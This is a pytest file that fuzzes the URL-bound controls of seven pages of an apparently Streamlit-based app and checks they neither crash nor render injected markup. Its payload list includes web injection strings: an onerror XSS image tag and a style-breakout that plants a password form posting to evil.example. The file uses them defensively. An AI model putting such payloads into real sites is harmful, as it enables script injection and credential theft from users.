"""A link from anyone: every URL-bound control of every page, fed what an attacker would send.

The keys are not listed here: each page is opened inside the router and the controls it drew
are read from ``ui.bound``'s registry (tabs opened one by one), so a control added later is
fuzzed too. For each page and each payload, every one of its keys carries the payload at once
(plus ``present``, ``hide`` and ``fx``). The page must run without an exception and without the
router's "something went wrong" message, and no payload may reach a Markdown-rendered text
unescaped (a link, an image or HTML drawn from a URL).
"""

from __future__ import annotations

import functools

import pytest
from apptest_helpers import open_via_router, rendered_markdown

from ui.bound import KEY_PATTERN

PAGES = [
    "app_pages/explorer.py",
    "app_pages/nonlinearity.py",
    "app_pages/playground.py",
    "app_pages/gradients.py",
    "app_pages/softmax.py",
    "app_pages/mnist.py",
    "app_pages/gated.py",
]
GLOBAL_KEYS = ["present", "fx"]
MARKUP = [
    "[Click](https://evil.example)",
    "![t](http://host/x.png)",
    "<img src=x onerror=alert(1)>",
    "</style><form action=https://evil.example><input name=pw type=password>",
]
PAYLOADS: list[str | list[str]] = [
    "abc",
    "inf",
    "-inf",
    "nan",
    str(10**100),
    "1" * 309,
    "x" * 10_000,
    *MARKUP,
    ["1"] * 100,  # one key repeated a hundred times
    [MARKUP[0]] * 5,
]
FAST_PAYLOADS = ["inf", "x" * 10_000, MARKUP[0]]
FAILURE = "Something went wrong"


@functools.cache
def controls_of(page: str) -> list[dict[str, str]]:
    """One query per tab of ``page`` opening that tab, with the tab's bound keys (``None``
    value = to be fuzzed)."""
    at = open_via_router(page)
    assert not at.exception, [e.value for e in at.exception]
    drawn = dict(at.session_state["_actlab_controls"])
    tab_keys = [key for key in drawn if key.endswith("_tab")]
    if not tab_keys:
        return [{key: None for key in drawn}]
    (tab_key,) = tab_keys
    views = []
    for label in [tab.label for tab in at.tabs]:
        opened = open_via_router(page, {tab_key: label})
        views.append({key: None for key in opened.session_state["_actlab_controls"]})
        views[-1][tab_key] = label
    return views


def attack(page: str, view: dict[str, str | None], payload: str | list[str]) -> None:
    query = {key: payload if fixed is None else fixed for key, fixed in view.items()}
    query["present"] = "true"
    query["hide"] = [payload] if isinstance(payload, str) else payload
    at = open_via_router(page, query)
    assert not at.exception, (page, payload, [e.value for e in at.exception])
    failures = [e.value for e in at.error if FAILURE in e.value]
    assert not failures, (page, str(payload)[:40])
    texts = rendered_markdown(at)
    for markup in MARKUP:
        leaked = [t[:80] for t in texts if markup in t]
        assert not leaked, (page, markup, leaked)
    styles = " ".join(e.proto.body for e in at.get("html"))
    assert "<form" not in styles and "url(" not in styles


@pytest.mark.parametrize("page", PAGES)
def test_every_page_draws_bound_controls_with_plain_keys(page):
    keys = {key for view in controls_of(page) for key in view}
    assert len(keys) > 3 and set(GLOBAL_KEYS) <= keys
    assert all(KEY_PATTERN.match(key) for key in keys)


@pytest.mark.parametrize("payload", FAST_PAYLOADS, ids=["inf", "10k", "link"])
@pytest.mark.parametrize("page", PAGES)
def test_hostile_links_fast(page, payload):
    for view in controls_of(page):
        attack(page, view, payload)


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: str(p)[:12] or "empty")
@pytest.mark.parametrize("page", PAGES)
def test_hostile_links_every_payload(page, payload):
    for view in controls_of(page):
        attack(page, view, payload)
